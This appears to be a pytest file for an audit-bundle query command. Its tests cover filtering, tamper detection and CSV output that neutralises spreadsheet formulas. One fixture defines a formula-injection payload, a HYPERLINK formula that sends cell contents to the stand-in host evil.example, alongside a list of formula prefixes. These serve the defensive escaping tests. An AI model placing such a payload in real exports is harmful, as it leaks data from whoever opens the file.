"""`cloister audit query`: what it finds in a verified bundle, that a changed bundle answers nothing, and safe CSV."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import Result
from sqlmodel import col, select
from typer.testing import CliRunner

from coordinator.audit.append import append
from coordinator.audit.sequencer import integrate_once
from coordinator.audit.tables import LogEntry
from coordinator.audit.witnessing import accept_cosignatures, latest_note
from coordinator.client.audit_bundle import AUDIT_FILES, read_archive
from coordinator.client.audit_query import COLUMNS, AuditQuery, BadQuery, find, safe_cell, to_csv
from coordinator.client.cli import app
from coordinator.database import transaction
from coordinator.people import accounts
from protocol.audit_event import EventType
from protocol.bundle import pack
from protocol.checkpoint import cosigner_key
from protocol.enrolment import witness_name
from protocol.errors import CloisterError, VerificationFailed
from protocol.identifiers import Role
from protocol.timestamp import timestamp
from protocol.witness_policy import WitnessPolicy
from tests.coordinator.appliances import Made, TestSite, exported

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULAS = ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\r=1", "\n+1", "|calc", "%0", "\uff1d1", "\u00a0=1")


@pytest.fixture
def sites(local: Made, tmp_path: Path) -> list[TestSite]:
    enrolled = [TestSite(f"site-{number}", tmp_path) for number in range(3)]
    for site in enrolled:
        site.enrol_in(local.appliance)
    return enrolled


def cosigned(made: Made, sites: list[TestSite]) -> dict[str, bytes]:
    """The bundle of all that was appended, once every site has cosigned it."""
    integrate_once(made.appliance)
    for site in sites:
        with transaction(made.appliance.engine) as session:
            data = site.cosign(latest_note(session, made.appliance), made.clock())
            key = cosigner_key(witness_name(site.name), site.witness).text
            accept_cosignatures(session, made.appliance, key, data)
    return read_archive(exported(made))


@pytest.fixture
def logged(local: Made, sites: list[TestSite]) -> Made:
    """A log with two studies, two releases and a hostile reason, cosigned by three sites."""
    events: list[tuple[EventType, str, str, dict[str, object] | None]] = [
        (EventType.STUDY_PROPOSED, "person-ada", "heart", None),
        (EventType.STUDY_CONSENTED, "site:site-0", "heart", None),
        (EventType.STUDY_REFUSED, "site:site-1", "heart", {"reason": HOSTILE, "name": "-2+3"}),
        (EventType.STUDY_PROPOSED, "person-ada", "heart-r1", None),
        (EventType.RELEASE_SEALED, "coordinator", "release:heart-r1", None),
        (EventType.RELEASE_SEALED, "coordinator", "release:heart-r12", None),
        (EventType.RELEASE_SEALED, "coordinator", "release:heart-r1-r1", None),
    ]
    local.clock.move(days=2)
    with transaction(local.appliance.engine) as session:
        for event, actor, subject, payload in events:
            append(session, local.appliance, event, actor=actor, subject=subject, labels={"state": "x"},
                   numbers={"epsilon": -1.5}, groups={"sites": ("site-0", "site-1")}, payload=payload)  # fmt: skip
    cosigned(local, sites)
    return local


@pytest.fixture
def files(logged: Made) -> dict[str, bytes]:
    return read_archive(exported(logged))


def subjects(files: dict[str, bytes], **filters: object) -> list[str]:
    return [item.event.subject for item in find(files, AuditQuery.of(**filters))[1]]  # type: ignore[arg-type]


def command(bundle: Path, *arguments: str) -> Result:
    return CliRunner().invoke(app, ["audit", "query", str(bundle), *arguments])


def test_filters_find_by_what_who_and_whom(files: dict[str, bytes]) -> None:
    report, everything = find(files, AuditQuery())
    assert [item.index for item in everything] == list(range(report.entries))
    assert subjects(files, events=["study.refused", "study.consented"]) == ["heart", "heart"]
    assert subjects(files, actor="site:site-0", events=["study.consented"]) == ["heart"]
    assert subjects(files, subject="heart-r1") == ["heart-r1"]
    assert subjects(files, release="heart-r1") == ["release:heart-r1"]
    assert subjects(files, study="heart") == ["heart"] * 3 + ["release:heart-r1", "release:heart-r12"]
    assert subjects(files, study="heart-r1") == ["heart-r1", "release:heart-r1-r1"]
    assert subjects(files, study="heart", actor="coordinator") == ["release:heart-r1", "release:heart-r12"]
    assert subjects(files, study="hear.") == []


def test_a_person_is_found_by_the_name_that_payloads_introduce(logged: Made, sites: list[TestSite]) -> None:
    with transaction(logged.appliance.engine) as session:
        accounts.invite(session, logged.appliance, "ada", Role.AUDITOR)
        accounts.invite(session, logged.appliance, "adam", Role.RESEARCHER)
        accounts.disable(session, logged.appliance, "ada")
    files = cosigned(logged, sites)
    events = [item.event.event.value for item in find(files, AuditQuery.of(person="ada"))[1]]
    assert events == ["person.invited", "person.disabled"]
    with pytest.raises(BadQuery, match="Nobody named"):
        find(files, AuditQuery.of(person="eve"))


def test_a_site_is_found_wherever_an_event_names_it(files: dict[str, bytes]) -> None:
    assert subjects(files, site="site-2") == ["site:site-2"] * 4
    assert subjects(files, site="site-1", events=["site.enrolled"]) == ["site:site-1"]
    assert len(subjects(files, site="site-1")) == 4 + 7
    assert subjects(files, site="site") == []


def test_a_document_is_found_by_its_digest(files: dict[str, bytes]) -> None:
    enrolled = find(files, AuditQuery.of(events=["site.enrolled"], subject="site:site-1"))[1][0].event
    assert subjects(files, digest=enrolled.digests["certificate"]) == ["site:site-1"]
    assert subjects(files, digest="sha256:" + "0" * 64) == []


def test_times_are_included_and_a_day_is_a_whole_day(logged: Made, files: dict[str, bytes]) -> None:
    everything = find(files, AuditQuery())[1]
    late = {item.event.at for item in everything if item.event.subject == "heart"}.pop()
    later = [item.index for item in everything if item.event.at >= late]
    assert 7 <= len(later) < len(everything)
    assert [item.index for item in find(files, AuditQuery.of(since=late))[1]] == later
    assert len(find(files, AuditQuery.of(until=late))[1]) == len([i for i in everything if i.event.at <= late])
    assert subjects(files, since=late[:10], until=late[:10], study="heart-r1") == ["heart-r1", "release:heart-r1-r1"]
    assert find(files, AuditQuery.of(since=timestamp(logged.clock())[:4] + "-12-31T23:59:59Z"))[1] == []


@pytest.mark.parametrize(
    "filters",
    [
        {"events": ["study.refuse"]},
        {"since": "yesterday"},
        {"until": "2026-13-01"},
        {"since": "2026-11-02", "until": "2026-11-01"},
        {"since": "2026-11-02T00:00:00+01:00"},
        {"digest": "sha256:abc"},
    ],
)
def test_a_filter_that_is_none_is_refused(filters: dict[str, object]) -> None:
    with pytest.raises(BadQuery) as caught:
        AuditQuery.of(**filters)  # type: ignore[arg-type]
    assert caught.value.remedy


@pytest.mark.parametrize("name", AUDIT_FILES)
def test_a_bundle_with_one_changed_byte_answers_nothing(name: str, files: dict[str, bytes], tmp_path: Path) -> None:
    whole = tmp_path / "whole.tar"
    whole.write_bytes(pack(files, AUDIT_FILES))
    assert command(whole, "--event", "release.sealed").exit_code == 0
    data = bytearray(files[name])
    data[len(data) // 2] ^= 1
    changed = {**files, name: bytes(data)}
    with pytest.raises(CloisterError):
        find(changed, AuditQuery())
    bundle = tmp_path / "bundle.tar"
    bundle.write_bytes(pack(changed, AUDIT_FILES))
    for form in ("--csv", "--json"):
        result = command(bundle, form)
        assert isinstance(result.exception, VerificationFailed)
        assert result.stdout == ""


def test_a_dropped_entry_or_another_log_answers_nothing(files: dict[str, bytes]) -> None:
    lines = files["entries.jsonl"].splitlines(keepends=True)
    with pytest.raises(VerificationFailed):
        find({**files, "entries.jsonl": b"".join(lines[:-1])}, AuditQuery())
    own = WitnessPolicy.from_bytes(files["witness_policy.json"])
    assert find(files, AuditQuery(), policy=own, log=own.log)[0].anchor.startswith("the pinned")
    with pytest.raises(VerificationFailed, match="answers nothing"):
        find(files, AuditQuery(), log=own.witnesses[0])


def test_an_erased_payload_is_said_to_be_erased(logged: Made) -> None:
    with transaction(logged.appliance.engine) as session:
        for row in session.exec(select(LogEntry).where(col(LogEntry.payload).is_not(None))):
            row.payload = row.salt = None
    erased = read_archive(exported(logged))
    (found,) = find(erased, AuditQuery.of(events=["study.refused"]))[1]
    assert (found.erased, found.payload) == (True, None)
    (other,) = find(erased, AuditQuery.of(events=["study.consented"]))[1]
    assert other.erased is False
    assert "evil" not in to_csv([found])


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell.startswith("'")
    assert not any(ord(character) < 32 for character in cell)
    assert cell.replace("'", "", 1).strip() == text.strip()


@pytest.mark.parametrize("text", ["", "heart", "2026-11-23T00:00:00Z", "site:a-1", "a=b", "12", "it's", "'quoted'"])
def test_an_ordinary_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_hostile_words_reach_a_spreadsheet_as_text(files: dict[str, bytes], tmp_path: Path) -> None:
    bundle = tmp_path / "bundle.tar"
    bundle.write_bytes(pack(files, AUDIT_FILES))
    result = command(bundle, "--study", "heart", "--csv")
    assert result.exit_code == 0
    head, *rows = csv.reader(io.StringIO(result.stdout, newline=""))
    assert tuple(head) == COLUMNS
    assert len(rows) == 5
    refused = dict(zip(head, next(row for row in rows if "study.refused" in row), strict=True))
    assert refused["reason"] == "'" + HOSTILE
    assert refused["name"] == "'-2+3"
    assert json.loads(refused["payload"])["reason"] == HOSTILE
    assert refused["numbers"] == "epsilon=-1.5"
    assert not [cell for row in rows for cell in row if cell.lstrip()[:1] in tuple("=+-@|%")]


def test_text_shows_no_payload_and_json_shows_all(files: dict[str, bytes], tmp_path: Path) -> None:
    bundle = tmp_path / "bundle.tar"
    bundle.write_bytes(pack(files, AUDIT_FILES))
    shown = command(bundle, "--event", "study.refused")
    assert "site:site-1" in shown.stdout
    assert "evil" not in shown.stdout
    document = json.loads(command(bundle, "--event", "study.refused", "--json").stdout)
    assert (document["verified"], document["found"], len(document["events"])) == (True, 1, 1)
    assert document["events"][0]["payload"]["reason"] == HOSTILE
    assert isinstance(command(bundle, "--csv", "--json").exception, BadQuery)
    assert isinstance(command(tmp_path / "nowhere.tar").exception, CloisterError)


OFFLINE = """
import atexit, socket, sys
def closed(*_, **__): raise AssertionError("the network is closed")
socket.socket = closed
def check():
    loaded = [name for name in ("sqlalchemy", "sqlmodel", "fastapi", "httpx", "uvicorn", "flwr") if name in sys.modules]
    assert not loaded, loaded
atexit.register(check)
from coordinator.client.cli import main
main()
"""


@pytest.mark.processes
def test_the_command_needs_nothing_but_the_bundle(logged: Made, tmp_path: Path) -> None:
    bundle = tmp_path / "bundle.tar"
    bundle.write_bytes(exported(logged))

    def query() -> subprocess.CompletedProcess[str]:
        arguments = [sys.executable, "-c", OFFLINE, "audit", "query", str(bundle), "--release", "heart-r1", "--csv"]
        return subprocess.run(arguments, capture_output=True, text=True, check=False)

    done = query()
    assert (done.returncode, done.stderr) == (0, "")
    assert "release:heart-r1" in done.stdout
    data = bytearray(bundle.read_bytes())
    data[data.index(b"evil")] ^= 1
    bundle.write_bytes(bytes(data))
    tampered = query()
    assert (tampered.returncode, tampered.stdout) == (1, "")
    assert "answers nothing" in tampered.stderr
    assert "Traceback" not in tampered.stderr
